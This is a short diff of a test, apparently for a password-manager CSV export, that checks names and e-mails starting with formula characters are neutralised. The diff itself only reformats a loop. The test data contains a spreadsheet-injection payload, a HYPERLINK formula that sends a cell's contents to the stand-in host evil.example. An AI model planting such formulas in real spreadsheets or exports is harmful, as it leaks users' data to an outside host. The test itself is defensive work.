@@ -37,7 +37,10 @@ test('the first passwords file neutralises a name and an e-mail that start like 
     `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click ${stamp}"")","formula${stamp}@import.test",`,
   );
   expect(text).toContain(`"Hà ${stamp}","'-dash${stamp}@import.test",`);
-  for (const line of text.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean)) {
+  for (const line of text
+    .replace(/^\uFEFF/, '')
+    .split('\r\n')
+    .filter(Boolean)) {
     expect(line).not.toMatch(/^"?[=+\-@\t\r]/);
   }
 });
